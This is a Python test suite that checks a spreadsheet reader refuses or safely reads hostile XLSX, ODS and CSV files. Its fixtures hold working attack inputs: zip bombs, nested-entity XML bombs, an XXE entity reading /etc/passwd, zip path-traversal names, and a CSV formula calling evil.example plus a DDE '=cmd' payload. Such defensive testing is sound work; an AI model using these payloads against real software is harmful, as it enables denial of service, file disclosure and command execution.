"""Spreadsheets that are more than they seem: each is refused with its limit, or read as words."""

import io
import os
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path
from types import MappingProxyType

import pytest
from openpyxl import Workbook

from ocopgen.app.sheets.grid import Lost, Sheet
from ocopgen.app.sheets.reading import read_sheets
from ocopgen.app.sheets.room import MOST_BYTES, MOST_CELLS, MOST_UNPACKED
from ocopgen.base.problems import WrongUse
from tests.doors import ODS

Make = Callable[[Path], None]
SHEET = "xl/worksheets/sheet1.xml"
BOMB = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a0 "lollollollol">%s]>' % b"".join(
    b'<!ENTITY a%d "%s">' % (each, b"&a%d;" % (each - 1) * 10) for each in range(1, 10)
)
OUTSIDE = b'<!DOCTYPE x [<!ENTITY out SYSTEM "file:///etc/passwd">]>'


def book(
    part: str = "",
    becomes: Callable[[bytes], bytes] = bytes,
    more: Mapping[str, bytes] = MappingProxyType({}),
) -> Make:
    """Return what writes a workbook in which *part* has become another, and *more* parts are."""

    def make(path: Path) -> None:
        made = Workbook()
        made.worksheets[0].append(["Tên", "Mã"])
        out = io.BytesIO()
        made.save(out)
        with zipfile.ZipFile(out) as old, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as new:
            for name in old.namelist():
                content = old.read(name)
                new.writestr(name, becomes(content) if name == part else content)
            for name, content in more.items():
                new.writestr(name, content)

    return make


def after(mark: bytes, put: bytes) -> Callable[[bytes], bytes]:
    """Return what puts *put* behind *mark*, which stands there."""

    def becomes(content: bytes) -> bytes:
        assert mark in content
        return content.replace(mark, mark + put, 1)

    return becomes


def ods(written: str, becomes: str) -> Make:
    """Return what writes an OpenDocument table in which *written* has become another."""

    def make(path: Path) -> None:
        assert written in ODS
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as parts:
            parts.writestr("content.xml", ODS.replace(written, becomes))

    return make


def words(content: bytes) -> Make:
    """Return what writes the file that holds *content*."""

    def make(path: Path) -> None:
        path.write_bytes(content)

    return make


def bomb(ending: str, said: int) -> Make:
    """Return what writes a file whose first part has 20 MB, and says to have *said* bytes."""
    name = SHEET if ending == "xlsx" else "content.xml"

    def make(path: Path) -> None:
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as parts:
            parts.writestr(name, bytes(20_000_000))
            parts.infolist()[0].file_size = said

    return make


def too_long(path: Path) -> None:
    """Write a table of one byte too many."""
    path.touch()
    os.truncate(path, MOST_BYTES + 1)


def half(path: Path) -> None:
    """Write the first half of a workbook."""
    book()(path)
    path.write_bytes(path.read_bytes()[: path.stat().st_size // 2])


COLUMNS = 'number-columns-repeated="3"'
CELL = "<table:table-cell><text:p>a</text:p></table:table-cell>"
ROWS = 'number-rows-repeated="2"'
MERGE = b'<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>'
LINK = (
    b'<hyperlinks><hyperlink xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships" ref="A1:XFD1048576" location="x"/></hyperlinks>'
)
REFUSED: dict[str, tuple[str, Make, str]] = {
    "a zip bomb": ("xlsx", bomb("xlsx", MOST_UNPACKED + 1), "sheet.large"),
    "a zip bomb of OpenDocument": ("ods", bomb("ods", MOST_UNPACKED + 1), "sheet.large"),
    "a zip bomb that says it is none": ("xlsx", bomb("xlsx", 100), "sheet.unreadable"),
    "a zip bomb of OpenDocument that says it is none": (
        "ods",
        bomb("ods", 100),
        "sheet.unreadable",
    ),
    "more bytes than a file may have": ("csv", too_long, "sheet.large"),
    "entities within entities": (
        "xlsx",
        book(SHEET, lambda sheet: BOMB + sheet.replace(b"<sheetData>", b"&a9;<sheetData>", 1)),
        "sheet.unreadable",
    ),
    "entities within entities in the list of sheets": (
        "xlsx",
        book("xl/workbook.xml", lambda _: BOMB + b"<workbook>&a9;</workbook>"),
        "sheet.unreadable",
    ),
    "entities within entities of OpenDocument": (
        "ods",
        ods("<office:document-content", BOMB.decode() + "<office:document-content"),
        "",
    ),
    "a file of the system": (
        "xlsx",
        book(SHEET, lambda sheet: OUTSIDE + sheet.replace(b"<sheetData>", b"<sheetData>&out;", 1)),
        "sheet.unreadable",
    ),
    "all cells joined to one": ("xlsx", book(SHEET, after(b"</sheetData>", MERGE)), "sheet.cells"),
    "all cells joined to one, in a sheet of another name": (
        "xlsx",
        book(more={"xl/other.bin": b"<x>" + MERGE + b"</x>"}),
        "sheet.cells",
    ),
    "one link for all cells": ("xlsx", book(SHEET, after(b"</sheetData>", LINK)), "sheet.cells"),
    "a cell a thousand million times": (
        "ods",
        ods(COLUMNS, 'number-columns-repeated="1000000000"'),
        "sheet.cells",
    ),
    "ten cells a million times": (
        "ods",
        ods(f"{ROWS}>", 'number-rows-repeated="1000000">' + CELL * 6),
        "sheet.cells",
    ),
    "a number of repeats with ten thousand digits": (
        "ods",
        ods(COLUMNS, f'number-columns-repeated="{"9" * 10_000}"'),
        "sheet.unreadable",
    ),
    "elements a hundred thousand deep": (
        "ods",
        ods("<text:p>", "<text:p>" + "<text:span>" * 100_000 + "</text:span>" * 100_000),
        "sheet.unreadable",
    ),
    "more cells than a list needs": (
        "csv",
        words(b"a," * (MOST_CELLS // 2) + b"\n" + b"a," * (MOST_CELLS // 2 + 1)),
        "sheet.cells",
    ),
    "a quote that is never closed": ("csv", words(b'"' + b"a\n" * 1000), "sheet.unreadable"),
    "a cell of two million letters": ("csv", words(b"a" * 2_000_000), "sheet.unreadable"),
    "a separator that is a quote": ("csv", words(b'sep="\na"b\n'), ""),
    "a page": ("xlsx", words(b"<html><script>pwned=1</script>"), "sheet.unreadable"),
    "a workbook of old": ("xlsx", words(b"\xd0\xcf\x11\xe0" * 99), "sheet.unreadable"),
    "half of a workbook": ("xlsx", half, "sheet.unreadable"),
    "a cell that no sheet has": (
        "xlsx",
        book(SHEET, lambda sheet: sheet.replace(b'r="A1"', b'r="ZZZZ99999999999"', 1)),
        "sheet.unreadable",
    ),
    "a program": ("exe", words(b"MZ"), "sheet.kind"),
}  # fmt: skip
"""How the file ends, what makes it, and the trouble that is told; none: it is read."""
READ: dict[str, tuple[str, Make]] = {
    "a way out of the zip file": ("xlsx", book(more={"../../../tmp/pwned.xml": b"<x/>"})),
    "an absolute path in the zip file": ("xlsx", book(more={"/tmp/pwned.xml": b"<x/>"})),  # noqa: S108
    "links to other workbooks": (
        "xlsx",
        book(more={"xl/externalLinks/externalLink1.xml": b"<externalLink/>"}),
    ),
    "a program of macros": ("xlsm", book(more={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"})),
    "a formula that asks another host": (
        "csv",
        words(b'T\xc3\xaan,M\xc3\xa3\n"=WEBSERVICE(""https://evil.example/"")",=cmd|x!A1\n'),
    ),
    "a thousand columns": ("csv", words(b",".join(b"c%d" % each for each in range(1000)))),
    "spaces without end": ("ods", ods('text:c="2"', 'text:c="1000000000"')),
}


def read(make: Make, ending: str, folder: Path) -> list[Sheet]:
    """Return what is read of the file that *make* makes."""
    path = folder / f"bang.{ending}"
    make(path)
    return read_sheets(path)


@pytest.mark.parametrize("name", REFUSED)
def test_a_spreadsheet_that_would_exhaust_the_machine_is_refused(tmp_path: Path, name: str) -> None:
    ending, make, code = REFUSED[name]
    try:
        told = "" if read(make, ending, tmp_path) else "nothing"
    except WrongUse as trouble:
        told = trouble.code

    assert code == told


@pytest.mark.parametrize("name", READ)
def test_what_only_looks_dangerous_is_read_as_words(tmp_path: Path, name: str) -> None:
    ending, make = READ[name]

    (sheet,) = read(make, ending, tmp_path)

    values = [value for row in sheet.rows for value in row.cells.values()]
    assert values
    assert not [value for value in values if isinstance(value, Lost)]
    assert sorted(path.name for path in tmp_path.iterdir()) == [f"bang.{ending}"]


def test_joined_cells_count_only_where_there_are_rows(tmp_path: Path) -> None:
    joined = b'<mergeCells count="1"><mergeCell ref="A2:A100000"/></mergeCells>'

    (sheet,) = read(book(SHEET, after(b"</sheetData>", joined)), "xlsx", tmp_path)

    assert len(sheet.rows) == 1
